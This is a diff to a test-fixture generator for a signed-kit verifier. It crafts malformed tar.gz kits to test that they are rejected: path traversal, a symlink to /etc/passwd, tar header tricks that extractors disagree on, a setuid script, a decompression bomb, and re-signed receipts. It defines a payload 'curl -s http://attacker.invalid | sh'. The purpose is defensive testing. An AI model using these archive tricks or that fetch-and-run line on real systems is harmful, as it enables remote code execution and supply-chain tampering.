@@ -6,25 +6,42 @@ Ed25519's deterministic signatures, servekit's deterministic archive), so a seco
 rewrites identical bytes; ``tests/kit/test_fixtures.py`` regenerates into a temporary
 directory and compares.
 
-Kits, each named after its case:
+Kits, each named after its case (the exit code ``verify kit`` refuses it with):
 
-=================================  ===========================================  ==========
-kit_valid.tar.gz                   as built                                      verified
-kit_tampered_compose.tar.gz        one byte changed in deploy/compose.yaml      10
-kit_missing_evidence.tar.gz        an evidence file removed                     11
-kit_extra_file.tar.gz              an extra file added                          12
-kit_tampered_receipt_payload...    the receipt payload edited, signature kept   13
-kit_untrusted_key.tar.gz           signed by a key no test trusts               13
-kit_manifest_not_resigned.tar.gz   compose and MANIFEST edited consistently     14
-kit_path_traversal.tar.gz          a member named ../x                          15
-kit_symlink_member.tar.gz          a symlink member                             15
-=================================  ===========================================  ==========
+==================================  ===============================================  ====
+kit_valid                           as built                                         0
+kit_tampered_compose                one byte changed in deploy/compose.yaml          10
+kit_missing_evidence                an evidence file removed                         11
+kit_extra_file                      an extra file added                              12
+kit_tampered_receipt_payload        the receipt payload edited, signature kept       13
+kit_untrusted_key                   signed by a key no test trusts                   13
+kit_manifest_not_resigned           compose and MANIFEST edited consistently         14
+kit_path_traversal                  a member named ../x                              15
+kit_symlink_member                  a symlink member                                 15
+kit_duplicate_member                compose.yaml again at the end (later wins)       15
+kit_gzip_appended_member            a second gzip member after the kit               17
+kit_header_bad_checksum             a header tarfile stops at, GNU tar skips         18
+kit_pax_path_override               a pax header renaming a member onto compose      19
+kit_gnu_long_name                   a GNU long-name header                           19
+kit_setuid_launch                   launch.sh with mode 4755                         20
+kit_wrong_mtime                     every mtime 0, not the package's date            20
+kit_after_end_of_archive            a member after the end-of-archive blocks         21
+kit_manifest_not_first              README.md before MANIFEST                        22
+kit_oversized_member                a header claiming 8 GiB                          23
+kit_decompression_bomb              100 MiB of zeros after the end, in ~100 KB       21
+kit_receipt_reencoded               the signed envelope re-indented                  24
+kit_receipt_nested                  a receipt nested 100 000 levels deep             25
+kit_outside_grant                   signed by a key granted another publisher        26
+kit_recorded_violations             re-signed receipt recording 2 violations         28
+kit_figure_not_recomputed           re-signed receipt with a recomputed value off    28
+==================================  ===============================================  ====
 """
 
 from __future__ import annotations
 
 import base64
 import datetime as dt
+import gzip
 import hashlib
 import io
 import json
@@ -42,13 +59,17 @@ from servekit.kit.build import EXECUTABLES, BuiltKit, build_kit
 from servekit.package.evidence import RequestRecord
 from servekit.package.models import Metric, Scope, Statistic
 from servekit.package.stats import figure_value, summarize
+from servekit.receipts.archive import member_mode
 from servekit.receipts.canonical import canonical_json
+from servekit.receipts.keys import load_signing_key
 from servekit.receipts.manifest import manifest_entries, render_manifest
+from servekit.receipts.signing import sign_payload
 
 ASSETS = Path(__file__).resolve().parent
 PACKAGE_DIR = ASSETS / "kit_package"
 KEYS = ASSETS / "keys"
 MTIME = 1764460800  # 2025-11-30 00:00 UTC, the fixture package's publication date
+SIGNED_AT = dt.datetime(2025, 12, 1, 9, 30, tzinfo=dt.UTC)
 ENGINE_VERSION = "0.11.0"
 GPUS = 2
 REPO, COMMIT = "servekit-test/tiny-model", "3b1f6c0e2d9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"
@@ -335,29 +356,54 @@ def private_key(name: str, directory: Path) -> Path:
 
 def build(package_dir: Path, key: str) -> BuiltKit:
     with tempfile.TemporaryDirectory() as tmp:
-        return build_kit(package_dir, private_key(key, Path(tmp)))
+        return build_kit(package_dir, private_key(key, Path(tmp)), signed_at=SIGNED_AT)
 
 
 def _archive(files: dict[str, bytes]) -> bytes:
     return write_archive([KitFile(p, d, p in EXECUTABLES) for p, d in files.items()], MTIME)
 
 
-def _raw_archive(files: dict[str, bytes], extra: tarfile.TarInfo) -> bytes:
-    """An archive with one member servekit's writer would never write."""
+# --- raw tar surgery: what an attacker with a hex editor writes ------------------------
+
+
+def _gzip(tar: bytes) -> bytes:
+    """``tar`` as one gzip member with servekit's header (mtime 0, no name)."""
     buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
-        for path, data in sorted(files.items()):
-            info = tarfile.TarInfo(path)
-            info.size, info.mtime, info.mode = len(data), MTIME, 0o644
-            tar.addfile(info, io.BytesIO(data))
-        extra.mtime = MTIME
-        tar.addfile(extra, io.BytesIO(b"x\n") if extra.isreg() else None)
-    return _reset_gzip_header(buffer.getvalue())
+    with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, mtime=0, compresslevel=9) as gz:
+        gz.write(tar)
+    return buffer.getvalue()
 
 
-def _reset_gzip_header(data: bytes) -> bytes:
-    """Zero the gzip header's mtime (bytes 4-8) so the fixture is reproducible."""
-    return data[:4] + b"\x00\x00\x00\x00" + data[8:]
+def _padded(data: bytes) -> bytes:
+    return data + b"\0" * (-len(data) % 512)
+
+
+def _info(path: str, size: int, **fields: Any) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(path)
+    info.size, info.mtime, info.mode = size, MTIME, member_mode(path)
+    for name, value in fields.items():
+        setattr(info, name, value)
+    return info
+
+
+def _member(path: str, data: bytes, **fields: Any) -> bytes:
+    """One member's header and padded data, as tarfile writes it (``fields`` override)."""
+    return _info(path, len(data), **fields).tobuf(tarfile.PAX_FORMAT) + _padded(data)
+
+
+def _members(files: dict[str, bytes]) -> bytes:
+    return b"".join(_member(p, d) for p, d in sorted(files.items()))
+
+
+def _end(tar: bytes) -> bytes:
+    """Two zero blocks, then zeros to the next 10240-byte record, as tarfile ends."""
+    tar += b"\0" * 1024
+    return tar + b"\0" * (-len(tar) % 10240)
+
+
+def _raw(files: dict[str, bytes], tail: bytes = b"") -> bytes:
+    """The canonical members of ``files``, then ``tail``, then the end of the archive."""
+    return _gzip(_end(_members(files) + tail))
 
 
 def _tamper_compose(files: dict[str, bytes]) -> dict[str, bytes]:
@@ -378,9 +424,13 @@ def extra_file(files: dict[str, bytes]) -> bytes:
     return _archive({**files, "deploy/extra.sh": b"echo 'not from the publisher'\n"})
 
 
-def tampered_receipt_payload(files: dict[str, bytes]) -> bytes:
+def _statement(files: dict[str, bytes]) -> tuple[dict[str, Any], dict[str, Any]]:
     envelope = json.loads(files["receipt.dsse.json"])
-    statement = json.loads(base64.b64decode(envelope["payload"]))
+    return envelope, json.loads(base64.b64decode(envelope["payload"]))
+
+
+def tampered_receipt_payload(files: dict[str, bytes]) -> bytes:
+    envelope, statement = _statement(files)
     statement["predicate"]["figures"][0]["value"] *= 0.5  # a better TTFT than measured
     envelope["payload"] = base64.b64encode(canonical_json(statement)).decode()
     return _archive({**files, "receipt.dsse.json": canonical_json(envelope)})
@@ -392,16 +442,111 @@ def manifest_not_resigned(files: dict[str, bytes]) -> bytes:
     return _archive(changed)
 
 
+EVIL = b"curl -s http://attacker.invalid | sh\n"
+
+
 def path_traversal(files: dict[str, bytes]) -> bytes:
-    member = tarfile.TarInfo("../x")
-    member.size = 2
-    return _raw_archive(files, member)
+    return _raw(files, _member("../x", b"x\n"))
 
 
 def symlink_member(files: dict[str, bytes]) -> bytes:
-    member = tarfile.TarInfo("deploy/k8s/secrets.yaml")
-    member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
-    return _raw_archive(files, member)
+    link = _info("deploy/k8s/secrets.yaml", 0, type=tarfile.SYMTYPE, linkname="/etc/passwd")
+    return _raw(files, link.tobuf(tarfile.PAX_FORMAT))
+
+
+def gzip_appended_member(files: dict[str, bytes]) -> bytes:
+    """A second gzip member: gzip -d (so GNU tar) and Python's gzip read on into it."""
+    return _archive(files) + _gzip(_end(_member("deploy/launch.sh", EVIL, mode=0o755)))
+
+
+def _bad_checksum_block() -> bytes:
+    block = bytearray(_info("deploy/zz-skip", 0).tobuf(tarfile.PAX_FORMAT))
+    block[148:156] = b"0000000\0"
+    return bytes(block)
+
+
+def header_bad_checksum(files: dict[str, bytes]) -> bytes:
+    """A header tarfile stops at silently; GNU tar skips it and extracts what follows."""
+    return _raw(files, _bad_checksum_block() + _member("deploy/zz-evil.sh", EVIL))
+
+
+def pax_path_override(files: dict[str, bytes]) -> bytes:
+    """A pax header renames the next member onto deploy/compose.yaml."""
+    info = _info("zz-override", len(EVIL), pax_headers={"path": "deploy/compose.yaml"})
+    return _raw(files, info.tobuf(tarfile.PAX_FORMAT) + _padded(EVIL))
+
+
+def gnu_long_name(files: dict[str, bytes]) -> bytes:
+    """A GNU ``L`` header: the name that follows it replaces the next header's."""
+    long_name = "deploy/" + "a" * 120
+    info = _info(long_name, len(EVIL))
+    return _raw(files, info.tobuf(tarfile.GNU_FORMAT) + _padded(EVIL))
+
+
+def setuid_launch(files: dict[str, bytes]) -> bytes:
+    tar = b"".join(
+        _member(p, d, mode=0o4755) if p == "deploy/launch.sh" else _member(p, d)
+        for p, d in sorted(files.items())
+    )
+    return _gzip(_end(tar))
+
+
+def wrong_mtime(files: dict[str, bytes]) -> bytes:
+    return write_archive([KitFile(p, d, p in EXECUTABLES) for p, d in files.items()], 0)
+
+
+def after_end_of_archive(files: dict[str, bytes]) -> bytes:
+    """A member after the two zero blocks: ``tar -i`` (--ignore-zeros) extracts it."""
+    tar = _members(files) + b"\0" * 1024 + _member("deploy/zz-evil.sh", EVIL)
+    return _gzip(_end(tar))
+
+
+def manifest_not_first(files: dict[str, bytes]) -> bytes:
+    order = ["README.md", *sorted(p for p in files if p != "README.md")]
+    return _gzip(_end(b"".join(_member(p, files[p]) for p in order)))
+
+
+def duplicate_member(files: dict[str, bytes]) -> bytes:
+    """compose.yaml again at the end: GNU tar and tarfile both let the later copy win."""
+    return _raw(files, _member("deploy/compose.yaml", EVIL))
+
+
+def oversized_member(files: dict[str, bytes]) -> bytes:
+    """A header claiming 8 GiB (the most an octal size field holds) after MANIFEST."""
+    manifest = _member("MANIFEST", files["MANIFEST"])
+    return _gzip(manifest + _info("README.md", 8**11 - 1).tobuf(tarfile.PAX_FORMAT))
+
+
+def decompression_bomb(files: dict[str, bytes]) -> bytes:
+    """100 MiB of zeros after the end of the archive, in about 100 KB of gzip."""
+    return _gzip(_end(_members(files)) + b"\0" * (100 * 1024 * 1024))
+
+
+def receipt_reencoded(files: dict[str, bytes]) -> bytes:
+    """The same signed payload in indented JSON: valid, but a second hash for one receipt."""
+    envelope = json.loads(files["receipt.dsse.json"])
+    return _archive({**files, "receipt.dsse.json": json.dumps(envelope, indent=1).encode()})
+
+
+def receipt_nested(files: dict[str, bytes]) -> bytes:
+    return _archive({**files, "receipt.dsse.json": b"[" * 100_000 + b"]" * 100_000})
+
+
+def _resigned(files: dict[str, bytes], edit: Callable[[dict[str, Any]], None]) -> bytes:
+    """The kit with its statement edited and signed again by the trusted publisher key."""
+    _, statement = _statement(files)
+    edit(statement["predicate"])
+    with tempfile.TemporaryDirectory() as tmp:
+        key = load_signing_key(private_key("publisher", Path(tmp)))
+    return _archive({**files, "receipt.dsse.json": sign_payload(canonical_json(statement), key)})
+
+
+def recorded_violations(files: dict[str, bytes]) -> bytes:
+    return _resigned(files, lambda p: p["claim_rules"].update(violations=2))
+
+
+def figure_not_recomputed(files: dict[str, bytes]) -> bytes:
+    return _resigned(files, lambda p: p["figures"][0].update(recomputed=0.001))
 
 
 CASES: dict[str, Callable[[dict[str, bytes]], bytes]] = {
@@ -412,6 +557,21 @@ CASES: dict[str, Callable[[dict[str, bytes]], bytes]] = {
     "kit_manifest_not_resigned": manifest_not_resigned,
     "kit_path_traversal": path_traversal,
     "kit_symlink_member": symlink_member,
+    "kit_gzip_appended_member": gzip_appended_member,
+    "kit_header_bad_checksum": header_bad_checksum,
+    "kit_pax_path_override": pax_path_override,
+    "kit_gnu_long_name": gnu_long_name,
+    "kit_setuid_launch": setuid_launch,
+    "kit_wrong_mtime": wrong_mtime,
+    "kit_after_end_of_archive": after_end_of_archive,
+    "kit_manifest_not_first": manifest_not_first,
+    "kit_duplicate_member": duplicate_member,
+    "kit_oversized_member": oversized_member,
+    "kit_decompression_bomb": decompression_bomb,
+    "kit_receipt_reencoded": receipt_reencoded,
+    "kit_receipt_nested": receipt_nested,
+    "kit_recorded_violations": recorded_violations,
+    "kit_figure_not_recomputed": figure_not_recomputed,
 }
 
 
@@ -422,6 +582,7 @@ def write_fixtures(out: Path, package_dir: Path = PACKAGE_DIR) -> list[Path]:
     kits = {
         "kit_valid": valid.archive,
         "kit_untrusted_key": build(package_dir, "untrusted").archive,
+        "kit_outside_grant": build(package_dir, "untrusted").archive,
     }
     kits |= {name: make(files) for name, make in CASES.items()}
     written = []
